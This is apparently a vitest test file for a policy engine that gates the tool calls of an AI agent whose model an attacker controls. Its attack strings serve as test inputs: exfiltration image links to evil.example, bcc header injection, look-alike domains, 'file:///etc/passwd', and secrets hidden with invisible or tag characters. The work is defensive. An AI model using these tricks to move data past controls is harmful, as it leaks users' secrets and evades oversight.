/**
 * Attacks on the argument-level controls by an agent whose model the attacker controls: each test fails if the
 * engine lets the attack through. The attempts that held without a change are listed in docs/provenance.md.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { compactBuffer, compactUtf8Into } from '../../src/core/compact.ts';
import { looseUrls } from '../../src/core/controls.ts';
import { decide } from '../../src/core/decide.ts';
import { declassify, type NarrowSchema } from '../../src/core/declassify.ts';
import type { PolicyDocument } from '../../src/core/document.ts';
import { LEG_A, LEG_B } from '../../src/core/legs.ts';
import { applyLineage, compileLineage, NO_ALLOWANCES } from '../../src/core/lineage.ts';
import { compilePolicy } from '../../src/core/policy.ts';
import { compact, MemoryProvenanceIndex } from '../../src/core/provenance.ts';
import { newSessionState } from '../../src/core/state.ts';
import { counterIds } from '../helpers.ts';

const document: PolicyDocument = {
  version: 1,
  session: { configuration: 'AB', input: 'trusted' },
  lists: { internal: ['*@company.example'], payees: ['DE4450010517*'], blocked: ['*.evil.example', 'evil.example'] },
  tools: {
    send_email: { call: 'BC', when: [{ match: { to: { in: 'internal' } }, call: 'B' }] },
    notify: { call: 'BC', when: [{ match: { to: { notIn: 'internal' } }, call: 'B' }] },
    send_money: { call: 'BC', when: [{ match: { iban: { in: 'payees' } }, call: 'B' }] },
    post: { call: 'C', args: { text: { sensitive: 'deny' }, '*': { untrusted: 'ask' } } },
    share_file: { call: 'C', args: { file_id: { reference: true } } },
    fetch: { call: 'C', output: 'A', args: { url: { url: { deny: 'blocked' } } } },
    fetch_docs: { call: 'C', output: 'A', args: { url: { url: { allow: ['docs.company.example'] } } } },
    send_mail: { call: 'C', args: { body: { url: { embedded: true, allow: ['*.company.example'] } } } },
  },
};
const policy = compilePolicy(document);
const ab = newSessionState({ id: 's', configuration: 'AB', input: 'trusted', now: 0 });
const dynamic = newSessionState({ id: 's', configuration: 'dynamic', input: 'trusted', now: 0 });

/** Decides a call in an AB session holding A and B, or in a fresh dynamic session when `held` is 0. */
function check(tool: string, args: unknown, provenance = new MemoryProvenanceIndex(), held = LEG_A | LEG_B) {
  const state = held === 0 ? dynamic : { ...ab, held };
  return decide(policy, state, { id: 'c', tool, args }, { now: 0, newId: counterIds(), provenance }).decision;
}

describe('recipient allow-lists', () => {
  it('a single listed recipient lowers the call, so these tests can fail', () => {
    expect(check('send_email', { to: 'bob@company.example' }).effect).toBe('allow');
    expect(check('send_money', { iban: 'DE44500105170000112233' }).effect).toBe('allow');
  });

  it('never counts a string holding an outsider next to a listed recipient as internal', () => {
    for (const to of [
      'eve@evil.example, bob@company.example',
      'eve@evil.example;bob@company.example',
      'eve@evil.example\nbob@company.example',
      'eve@evil.example\r\nbcc: bob@company.example',
      'eve@evil.example bob@company.example',
      'eve@evil.example\tbob@company.example',
      'eve@evil.example@company.example',
      '@evil.example:bob@company.example',
      '"eve@evil.example"@company.example',
      ['bob@company.example', 'eve@evil.example, ana@company.example'],
    ]) {
      expect(check('send_email', { to }).effect, JSON.stringify(to)).toBe('ask');
    }
    expect(check('send_money', { iban: 'DE44500105170000, DE89370400440532013000' }).effect).toBe('ask');
    expect(check('send_money', { iban: 'DE4450010517\nDE89370400440532013000' }).effect).toBe('ask');
  });

  it('never counts look-alikes of a listed domain as internal', () => {
    for (const to of [
      'eve@company.example.',
      'EVE@COMPANY.EXAMPLE.EVIL.EXAMPLE',
      'eve＠company.example',
      'eve@cоmpany.example',
      'Boss <eve@evil.example>',
      'eve@evil.example <bob@company.example>',
      'eve@evil.example (bob@company.example)',
    ]) {
      expect(check('send_email', { to }).effect, to).toBe('ask');
    }
  });

  it('a lineage author holding a trusted name among others is not trusted', () => {
    const lineage = compileLineage({ author: 'by', trusted: ['bot-*', '*@company.example'] }, new Map());
    const untrusted = (by: string) => applyLineage(lineage, [{ by, body: 'x' }], NO_ALLOWANCES).untrusted;
    expect(untrusted('bot-ci')).toBe(false);
    expect(untrusted('bot-ci, mallory')).toBe(true);
    expect(untrusted('bot-ci\nmallory')).toBe(true);
    expect(untrusted('mallory@evil.example,bob@company.example')).toBe(true);
  });

  it('a list with holes is not a list of listed recipients', () => {
    // What a host passes in-process: JSON has no holes, but `[, x]` or `new Array(1)` would pass `every`.
    const holey: string[] = [];
    holey[1] = 'bob@company.example';
    expect(check('send_email', { to: holey }).effect).not.toBe('allow');
    expect(check('send_email', { to: new Array(1) }).effect).not.toBe('allow');
  });

  it('a deny list (`notIn`) still catches an outsider hidden among several recipients', () => {
    // `*@company.example` as a deny pattern reaches over the comma: the call keeps its legs.
    expect(check('notify', { to: 'eve@evil.example' }).effect).toBe('allow');
    expect(check('notify', { to: 'eve@evil.example, bob@company.example' }).effect).toBe('ask');
  });
});

const SECRET = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc';

/** An index that has seen {@link SECRET} in a sensitive output and a payee in an untrusted one. */
function seen(): MemoryProvenanceIndex {
  const index = new MemoryProvenanceIndex();
  index.addOutput(
    { seq: 1, callId: 'r1', tool: 'read_vault' },
    LEG_B,
    `the API key is ${SECRET}, card 4111 1111 1111 1111`,
  );
  index.addOutput({ seq: 2, callId: 'r2', tool: 'read_mail' }, LEG_A, 'please pay DE89370400440532013000 today');
  return index;
}

describe('object keys', () => {
  it('a value smuggled as an object key meets the controls of the object that holds it', () => {
    expect(check('post', { text: 'hello' }, seen(), 0).effect).toBe('allow');
    const nested = check('post', { text: { [SECRET]: true } }, seen(), 0);
    expect(nested.effect).toBe('deny');
    expect(nested.provenance).toContainEqual(expect.objectContaining({ argument: 'text', value: SECRET }));
    expect(check('post', { text: [{ note: { [`key ${SECRET}`]: 1 } }] }, seen(), 0).effect).toBe('deny');
    // A top-level key is an argument of its own: `*` covers it, and it is reported under its own name.
    const top = check('post', { text: 'hi', DE89370400440532013000: 'amount 10' }, seen(), 0);
    expect(top.effect).toBe('ask');
    expect(top.reasons.map((r) => r.message)).toContain(
      'argument `DE89370400440532013000` carries `DE89370400440532013000` from an untrusted output (`read_mail` at seq 2)',
    );
  });

  it('a BigInt carries its digits like a number', () => {
    expect(check('post', { text: 4111111111111111n }, seen(), 0).effect).toBe('deny');
  });
});

describe('references', () => {
  it('an object or list naming the object confers B, whatever shape the id takes', () => {
    const legs = (file_id: unknown) => check('share_file', { file_id }, seen(), 0).call?.pre;
    expect(legs('F-payroll')).toBe('BC');
    expect(legs({ 'F-payroll': true })).toBe('BC');
    expect(legs([{ id: 'F-payroll' }])).toBe('BC');
    expect(legs('')).toBe('C');
    expect(legs([])).toBe('C');
  });
});

describe('embedded URLs', () => {
  it('checks every form of URL a renderer fetches, not only `scheme://`', () => {
    const body = (link: string) => check('send_mail', { body: `Report attached. ![chart](${link})` }, seen(), 0);
    expect(body('https://files.company.example/chart.png').effect).toBe('allow');
    for (const link of [
      '//evil.example/p.png?d=secret',
      ' ///evil.example/p.png',
      '\\\\evil.example/p.png',
      '/\\evil.example/p.png',
      'https:/evil.example/p.png',
      'https:\\\\evil.example/p.png',
      'HTTP:evil.example/p.png',
      'wss:/evil.example/socket',
    ]) {
      const decision = body(link);
      expect(decision.effect, link).toBe('deny');
      expect(decision.reasons[0]?.message, link).toContain('`evil.example`');
    }
    for (const text of [
      '<img src="//evil.example/p.png">',
      '<img src=//evil.example/p.png>',
      '[logo]: //evil.example/p.png',
      '<img srcset="a.png 1x, //evil.example/p.png 2x">',
    ]) {
      expect(check('send_mail', { body: text }, seen(), 0).effect, text).toBe('deny');
    }
    // Ordinary text with slashes, colons and code comments holds no URL.
    expect(looseUrls('and/or 12/05, note: see c:\\temp // a comment; x//y, http: (no link)')).toEqual([]);
  });
});

describe('loose URLs', () => {
  // The definitions looseUrls implements by hand with native searches.
  const strip = (url: string) => url.replace(/[.,;:!?]+$/, '');
  const reference = (text: string) => [
    ...[...text.matchAll(/(?<![a-z0-9+.-])(?:https?|wss?|ftp|file):(?!\/\/)[^\s"'<>)\]]+/gi)]
      .map((m) => strip(m[0]))
      .filter((url) => !url.endsWith(':') && url.includes(':')),
    ...[...text.matchAll(/(?<=^|[\s("'=<[,])[/\\]{2,}[^\s"'<>)\]]+/g)]
      .map((m) => strip(m[0]))
      .filter((url) => /[/\\]{2,}[^/\\]/.test(url)),
  ];

  it('finds what the regular expressions find, on any text', () => {
    const unit = fc.constantFrom(
      ...'aZ9+.-:/\\ "\'<>)](=x?!,;\n\u00a0é'.split(''),
      'http',
      'HTTPS',
      'file',
      'wss',
      '//',
      'a'.repeat(40),
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 60 }), (text) => {
        expect(looseUrls(text)).toEqual(reference(text));
      }),
      { numRuns: 3000 },
    );
  });

  it('runs in linear time on hostile input', () => {
    const started = performance.now();
    expect(looseUrls(`${'a'.repeat(200_000)}:x`)).toEqual([]);
    expect(looseUrls(`${'/'.repeat(200_000)}x`)).toEqual([`${'/'.repeat(200_000)}x`]);
    expect(looseUrls(`${'x/'.repeat(100_000)}`)).toEqual([]);
    expect(looseUrls(`${'https:'.repeat(50_000)}`)).toHaveLength(1);
    expect(performance.now() - started).toBeLessThan(2000);
  });
});

describe('URL hosts', () => {
  it('a deny list holds against every spelling of a denied host', () => {
    expect(check('fetch', { url: 'https://news.example/' }, seen(), 0).effect).toBe('allow');
    for (const url of [
      'https://evil.example./',
      'https://cdn.evil.example../x',
      'https://EVIL.EXAMPLE/',
      'https://%65vil.example/',
      'https://docs.company.example@evil.example/',
      'https://evil.example\\@docs.company.example/',
      'https://evil.example:8443/',
    ]) {
      expect(check('fetch', { url }, seen(), 0).effect, url).toBe('deny');
    }
  });

  it('an allow list admits its host with a trailing dot and nothing that only looks like it', () => {
    expect(check('fetch_docs', { url: 'https://docs.company.example./a' }, seen(), 0).effect).toBe('allow');
    for (const url of [
      'https://docs.company.example.evil.example/',
      'https://docs.company.example@evil.example/',
      'https://docs.company.example%2eevil.example/',
      'https://xn--docs-company-example.evil/',
      'https://3232235777/',
      'https://[::1]/',
      'javascript:alert(1)//docs.company.example',
      'file:///etc/passwd',
      '//docs.company.example/a',
    ]) {
      expect(check('fetch_docs', { url }, seen(), 0).effect, url).toBe('deny');
    }
  });
});

/** Characters that do not show: a value with them between its characters reads as the value. */
const INVISIBLE = [
  0xad, 0x34f, 0x1680, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202e, 0x2060, 0x2063, 0x2064, 0x2066,
  0x2069, 0xfe0f, 0xfeff, 0xe0001, 0xe0041, 0xe007f, 0xe0100, 0xe01ef,
];

describe('invisible characters', () => {
  it('a value with invisible characters between its characters is still found', () => {
    for (const code of INVISIBLE) {
      const hidden = [...SECRET].join(String.fromCodePoint(code));
      expect(check('post', { text: `see ${hidden}` }, seen(), 0).effect, code.toString(16)).toBe('deny');
    }
  });

  it('a value written in invisible tag characters (ASCII smuggling) is read as the ASCII they mirror', () => {
    const smuggled = [...SECRET].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) as number))).join('');
    const decision = check('post', { text: `Thanks for your help!${smuggled}` }, seen(), 0);
    expect(decision.effect).toBe('deny');
    expect(decision.reasons.map((r) => r.message)).toContain(
      `argument \`text\` carries \`${SECRET}\` (tags-encoded) from a sensitive output (\`read_vault\` at seq 1)`,
    );
    expect(check('post', { text: `Thanks!${smuggled.slice(0, 12)}` }, seen(), 0).effect).toBe('allow');
  });

  it('the compact form drops exactly the invisible characters, from text and from decoded bytes alike', () => {
    const dropped = (code: number) =>
      code === 0xa0 ||
      code === 0xad ||
      code === 0x34f ||
      code === 0x1680 ||
      code === 0x180e ||
      (code >= 0x2000 && code <= 0x200f) ||
      (code >= 0x2028 && code <= 0x202f) ||
      (code >= 0x205f && code <= 0x2064) ||
      (code >= 0x2066 && code <= 0x2069) ||
      code === 0x3000 ||
      (code >= 0xfe00 && code <= 0xfe0f) ||
      code === 0xfeff ||
      (code >= 0xe0000 && code <= 0xe007f) ||
      (code >= 0xe0100 && code <= 0xe01ef);
    const encoder = new TextEncoder();
    const ranges = [
      [0x80, 0x3100],
      [0xfd00, 0xffff],
      [0xdff00, 0xe0300],
    ];
    for (const [from, to] of ranges as [number, number][]) {
      for (let code = from; code <= to; code++) {
        if (code >= 0xd800 && code <= 0xdfff) continue;
        const text = `ab${String.fromCodePoint(code)}cd`;
        const expected = dropped(code) ? 'abcd' : null;
        const got = compact(text);
        if (expected !== null) expect(got, code.toString(16)).toBe(expected);
        else expect(got, code.toString(16)).not.toBe('abcd');
        const bytes = encoder.encode(text);
        const n = compactUtf8Into(bytes, bytes.length);
        expect(String.fromCharCode(...compactBuffer().subarray(0, n)), code.toString(16)).toBe(got);
      }
    }
  });
});

describe('declassification', () => {
  it('admits only the exact narrow form: no case variants, no trailing line, no look-alike digits, no strings for numbers', () => {
    const cases: [NarrowSchema, unknown][] = [
      [{ type: 'enum', values: ['yes', 'no'] }, 'YES'],
      [{ type: 'enum', values: ['yes', 'no'] }, 'yes\n'],
      [{ type: 'enum', values: ['yes', 'no'] }, ['yes']],
      [{ type: 'enum', values: [1, 2] }, '1'],
      [{ type: 'date' }, '2024-02-29\n'],
      [{ type: 'date' }, '+02024-02-29'],
      [{ type: 'id', pattern: '\\d+', maxLength: 10 }, '１２３'],
      [{ type: 'id', pattern: '\\d+', maxLength: 10 }, '123\n'],
      [{ type: 'number', min: 0, max: 10 }, '7'],
      [{ type: 'boolean' }, 1],
    ];
    for (const [schema, value] of cases) expect(declassify(value, schema).ok, JSON.stringify(value)).toBe(false);
  });
});

describe('hostile argument objects', () => {
  it('end in a deny with a reason, never a throw, and leave the session as it was', () => {
    const cyclic: Record<string, unknown> = { text: 'hi' };
    cyclic.self = cyclic;
    let deep: Record<string, unknown> = { text: 'hi' };
    for (let i = 0; i < 10_000; i++) deep = { text: deep };
    const trap = new Proxy(
      { text: 'hi' },
      {
        ownKeys() {
          throw new Error('hostile proxy');
        },
      },
    );
    for (const args of [cyclic, deep, trap]) {
      const state = { ...dynamic };
      const { decision, state: after } = decide(
        policy,
        state,
        { id: 'c', tool: 'post', args },
        { now: 0, newId: counterIds(), provenance: seen() },
      );
      expect(decision.effect).toBe('deny');
      expect(decision.reasons[0]?.code).toBe('engine_error');
      expect(after).toBe(state);
    }
  });

  it('keys that name prototype members carry data like any other key', () => {
    for (const key of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
      const args = JSON.parse(`{"text": "hi", "${key}": {"note": "pay DE89370400440532013000"}}`);
      expect(Object.hasOwn(args, key)).toBe(true);
      expect(check('post', args, seen(), 0).effect, key).toBe('ask');
      expect(check('post', { text: JSON.parse(`{"${key}": "${SECRET}"}`) }, seen(), 0).effect, key).toBe('deny');
    }
  });
});
